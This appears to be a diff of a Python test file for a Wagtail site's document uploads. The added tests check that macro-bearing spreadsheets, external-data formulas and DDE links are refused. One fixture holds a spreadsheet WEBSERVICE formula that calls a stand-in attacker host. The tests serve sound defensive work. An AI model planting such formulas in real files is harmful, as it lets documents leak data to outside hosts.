@@ -20,6 +20,7 @@ from home.press.letters import revoke_links, write_to_press
 from tests.conftest import sign_in
 from tests.factories.documents import text_pdf
 from tests.factories.pages import NewsPageFactory, PressContactFactory, PressIndexPageFactory, PressReleasePageFactory
+from tests.factories.tables import open_document, xlsx
 from tests.factories.uploads import docx, relationship
 from tests.home.test_press import in_hours, link_of, the_hour_comes
 
@@ -197,7 +198,9 @@ def test_a_document_that_nothing_names_is_for_editors_alone_until_a_page_with_it
         ("plan.pdf", text_pdf("Plan", ["A ward"]), True),
         ("plan.pdf", docx(), False),
         ("plan.docx", b"MZ program", False),
-        ("plan.xlsx", b"PK\x03\x04 rest", True),
+        ("plan.xlsx", xlsx(), True),
+        ("plan.xlsx", b"MZ program", False),
+        ("plan.ods", open_document(), True),
         ("plan.csv", b"a,b\0", False),
         ("plan.csv", b"a,b", True),
     ],
@@ -212,6 +215,27 @@ def test_a_document_is_of_the_kind_that_its_name_says(site, editor, name, conten
 
     assert get_document_model().objects.exists() is is_taken
     assert ("though its name says so" in answer.content.decode()) is not is_taken
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "words"),
+    [
+        ("plan.xlsx", xlsx({"xl/vbaProject.bin": b"macro"}), "holds macros or other files. Save a copy without them."),
+        ("plan.xlsx", xlsx(formula='=WEBSERVICE("https://evil.example/")'), "that holds the values instead."),
+        ("plan.odt", open_document("<office:dde-source/>", kind="text"), "that holds the values instead."),
+        ("plan.ods", docx(), "no OpenDocument of the kind that its name says"),
+    ],
+)
+def test_no_way_of_packing_gets_a_program_or_foreign_data_past_the_editor(site, editor, name, content, words):
+    file = SimpleUploadedFile(name, content)
+    collection = Collection.get_first_root_node().pk
+
+    answer = editor.client.post(
+        reverse("wagtaildocs:add"), {"title": "Plan", "file": file, "collection": collection, "tags": ""}
+    )
+
+    assert words in answer.content.decode()
+    assert not get_document_model().objects.exists()
 
 
 def test_a_document_that_only_the_draft_of_a_published_page_names_is_closed_when_the_worker_has_read_it_too(
